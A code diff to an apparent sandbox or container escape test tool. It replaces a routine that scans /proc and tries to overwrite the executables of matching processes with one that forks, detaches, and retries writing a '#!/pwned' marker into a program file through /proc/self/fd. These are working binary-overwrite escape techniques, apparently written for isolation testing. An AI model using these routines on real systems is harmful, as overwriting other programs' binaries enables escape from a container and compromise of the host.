@@ -115,44 +115,23 @@ static void key(char **args)
 		puts(text);
 }
 
-/* exes SECONDS COMM: the program file of every process that is called so, to be written as soon as it can be
- */
-static void exes(char **args)
+/* overwrite FD: the program whose file that is, as soon as nobody runs it */
+static void overwrite(char **args)
 {
-	time_t end = time(NULL) + atoi(args[0]);
-	char path[64], name[32], own[64];
-	int held[64], n = 0;
+	char path[64];
 
-	while (time(NULL) < end) {
-		DIR *proc = opendir("/proc");
-		struct dirent *e;
-
-		while ((e = readdir(proc))) {
-			if (atoi(e->d_name) <= 0 || atoi(e->d_name) == getpid() || n == 64)
-				continue;
-			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
-			int fd = open(path, O_RDONLY);
-			/* one of ours is not what is wanted */
-			snprintf(own, sizeof(own), "/proc/self/fd/%d", fd);
-			ssize_t len = fd < 0 ? -1 : readlink(own, name, sizeof(name) - 1);
-			if (len > 0 && (name[len] = '\0', strstr(name, args[1])))
-				held[n++] = fd;
-			else if (fd >= 0)
-				close(fd);
-		}
-		closedir(proc);
-		for (int i = 0; i < n; i++) {
-			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
-			int fd = open(path, O_WRONLY);
-			if (fd >= 0 && write(fd, "\177ELFpwned", 9) == 9) {
-				puts("overwritten");
-				exit(0);
-			}
-			if (fd >= 0)
-				close(fd);
-		}
+	snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
+	if (fork() > 0)
+		return;
+	setsid();
+	puts("waiting");
+	fflush(stdout);
+	for (time_t end = time(NULL) + 20; time(NULL) < end;) {
+		int fd = open(path, O_WRONLY);
+		if (fd >= 0 && write(fd, "#!/pwned", 8) == 8)
+			return;
+		close(fd);
 	}
-	printf("held %d\n", n);
 }
 
 int main(int argc, char **argv)
@@ -162,7 +141,7 @@ int main(int argc, char **argv)
 		void (*run)(char **args);
 	} all[] = {{"caps", caps}, {"handle", handle}, {"lock", lock}, {"chroot", climb},
 		{"stdin", standard_input}, {"descriptors", descriptors}, {"type", type}, {"key", key},
-		{"exes", exes}};
+		{"overwrite", overwrite}};
 
 	for (size_t i = 0; argc > 1 && i < sizeof(all) / sizeof(all[0]); i++)
 		if (strcmp(argv[1], all[i].name) == 0) {
